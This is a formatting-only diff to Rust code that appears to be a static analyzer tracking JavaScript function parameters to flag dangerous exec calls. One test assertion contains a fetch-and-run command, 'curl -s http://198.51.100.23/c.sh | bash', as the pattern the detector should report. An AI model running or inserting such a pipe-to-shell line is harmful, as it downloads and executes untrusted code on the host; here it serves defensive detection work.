@@ -87,7 +87,8 @@ fn plain_parameters(function: Node) -> Option<Vec<Node>> {
         && list.iter().all(|p| {
             p.kind() == "identifier"
                 || (p.kind() == "required_parameter"
-                    && p.child_by_field_name("pattern").is_some_and(|n| n.kind() == "identifier")
+                    && p.child_by_field_name("pattern")
+                        .is_some_and(|n| n.kind() == "identifier")
                     && p.child_by_field_name("value").is_none())
         });
     plain.then_some(list)
@@ -138,7 +139,9 @@ impl<'t> Walker<'t, '_> {
         let saved = self.env.module_only();
         self.env.push();
         for (i, parameter) in parameters.iter().enumerate() {
-            let parameter = parameter.child_by_field_name("pattern").unwrap_or(*parameter);
+            let parameter = parameter
+                .child_by_field_name("pattern")
+                .unwrap_or(*parameter);
             let name = self.src(parameter);
             self.env.set(name, values.get(i).cloned().flatten());
         }
@@ -203,7 +206,9 @@ impl<'t> Walker<'t, '_> {
         let saved = self.env.module_only();
         self.env.push();
         for (i, parameter) in parameters.iter().enumerate() {
-            let parameter = parameter.child_by_field_name("pattern").unwrap_or(*parameter);
+            let parameter = parameter
+                .child_by_field_name("pattern")
+                .unwrap_or(*parameter);
             let name = self.src(parameter);
             self.env.set(name, values.get(i).cloned().flatten());
         }
@@ -292,7 +297,9 @@ mod tests {
             "run(process.argv[2]);\n",
         ));
         assert!(
-            found.iter().any(|r| r.contains("exec(\"curl -s http://198.51.100.23/c.sh | bash\"")),
+            found
+                .iter()
+                .any(|r| r.contains("exec(\"curl -s http://198.51.100.23/c.sh | bash\"")),
             "{found:?}"
         );
     }
